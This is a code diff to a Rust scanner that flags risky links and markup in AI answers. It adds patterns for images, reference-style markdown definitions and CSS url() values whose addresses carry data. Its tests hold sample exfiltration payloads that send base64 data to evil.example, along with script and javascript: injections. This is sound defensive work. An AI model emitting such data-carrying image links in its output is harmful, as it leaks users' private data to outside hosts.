@@ -4,6 +4,7 @@ use std::collections::HashSet;
 use std::ops::Range;
 use std::sync::LazyLock;
 
+use regex_automata::Input;
 use regex_automata::meta::Regex;
 use sensitive::{Kind, KindSet};
 
@@ -51,6 +52,9 @@ static MARKUP: LazyLock<Vec<(OutputRiskKind, &'static str, Confidence, Regex)>> 
         .collect()
 });
 
+static DEFINITION: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?m)^ {0,3}\[([^\]\n]{1,100})\]:\s{0,4}<?(?i:https?:)?//[^\s>]{1,300}[?&=][^\s>]{16,2000}").ok());
+
 #[rustfmt::skip]
 fn rows() -> Vec<(OutputRiskKind, &'static str, Confidence, &'static str)> {
     use OutputRiskKind::{UnsafeLink, UnsafeMarkup};
@@ -61,7 +65,9 @@ fn rows() -> Vec<(OutputRiskKind, &'static str, Confidence, &'static str)> {
         (UnsafeLink, "address with a user part that imitates a host", Confidence::Medium, r"(?i)https?://[\w.-]{1,100}\.[a-z]{2,10}(?::[^\s@/]{0,60})?@[\w.-]{1,100}"),
         (UnsafeMarkup, "script or frame", Confidence::High, r"(?i)<\s{0,4}(?:script|iframe|object|embed|applet|base|meta\s[^>]{0,100}http-equiv)\b[^>]{0,1000}>?"),
         (UnsafeMarkup, "event handler", Confidence::High, r"(?i)<[a-z][a-z0-9]{0,15}\b[^>]{0,500}[\s/'\x22]on[a-z]{3,20}\s{0,4}=[^>]{0,1000}>?"),
-        (UnsafeMarkup, "hidden form or image", Confidence::Medium, r"(?i)<\s{0,4}(?:form\b[^>]{0,500}action\s{0,3}=|img\b[^>]{0,500}src\s{0,3}=\s{0,3}['\x22]?(?:https?:)?//)[^>]{0,1000}>?"),
+        (UnsafeMarkup, "image tag that carries data in its address", Confidence::High, r"(?i)<\s{0,4}(?:img|image|video|audio|source|link|input|body|table|td)\b[^>]{0,300}(?:src|srcset|href|poster|background)\s{0,3}=\s{0,3}['\x22]?(?:https?:)?//[^\s'\x22>]{1,300}[?&=][^\s'\x22>]{16,2000}[^>]{0,300}>?"),
+        (UnsafeMarkup, "form or image tag", Confidence::Low, r"(?i)<\s{0,4}(?:form\b[^>]{0,500}action\s{0,3}=|img\b[^>]{0,500}src\s{0,3}=\s{0,3}['\x22]?(?:https?:)?//)[^>]{0,1000}>?"),
+        (UnsafeMarkup, "style that loads from an address with data", Confidence::High, r"(?i)\burl\(\s{0,3}['\x22]?(?:https?:)?//[^\s'\x22)]{1,300}[?&=][^\s'\x22)]{16,2000}"),
     ]
 }
 
@@ -91,9 +97,31 @@ pub fn output_risks(answer: &str, system_prompt: Option<&str>, canaries: &[&str]
             }
         }
     }
+    referenced_images(answer, &mut risks);
     risks.sort_by_key(|risk| (risk.span.start, risk.span.end));
     risks.truncate(RISKS_MAX);
     risks
+}
+
+/// An image by reference, `![text][name]`, whose address with data in it stands elsewhere: `[name]: https://...`.
+fn referenced_images(answer: &str, risks: &mut Vec<OutputRisk>) {
+    let Some(definition) = DEFINITION.as_ref().filter(|_| answer.contains("![")) else { return };
+    let mut captures = definition.create_captures();
+    let mut from = 0;
+    while from <= answer.len() && risks.len() < RISKS_MAX {
+        definition.search_captures(&Input::new(answer).range(from..), &mut captures);
+        let (Some(whole), Some(name)) = (captures.get_group(0), captures.get_group(1)) else { return };
+        from = whole.end.max(from + 1);
+        let name = answer.get(name.start..name.end).unwrap_or_default().to_lowercase();
+        let is_shown = answer.split("![").skip(1).any(|image| {
+            let image: String = image.chars().take(400).flat_map(char::to_lowercase).collect();
+            image.starts_with(&format!("{name}]")) || image.split_once(']').is_some_and(|(_, rest)| rest.starts_with(&format!("[{name}]")))
+        });
+        if is_shown {
+            let detail = "image by reference that carries data in its address";
+            risks.push(OutputRisk { kind: OutputRiskKind::UnsafeLink, span: whole.start..whole.end, confidence: Confidence::High, detail });
+        }
+    }
 }
 
 /// Lower-case words with their places.
@@ -198,6 +226,9 @@ mod tests {
     fn links_and_markup_that_carry_data_away() {
         use OutputRiskKind::{Secret, UnsafeLink, UnsafeMarkup};
         assert_eq!(kinds("![x](https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgeW91cnM)"), [UnsafeLink]);
+        assert_eq!(kinds("![x][a]\n\n[a]: https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgeW91cnM"), [UnsafeLink]);
+        assert_eq!(kinds("<img src='https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgeW91cnM'>"), [UnsafeMarkup]);
+        assert_eq!(kinds("[a]: https://example.org/p?article=a-long-name-of-an-article"), []);
         assert_eq!(kinds("[click](javascript:alert(1))"), [UnsafeLink]);
         assert_eq!(kinds("<script>fetch('//x')</script>"), [UnsafeMarkup]);
         assert_eq!(kinds("<b onmouseover=\"x()\">hi</b>"), [UnsafeMarkup]);
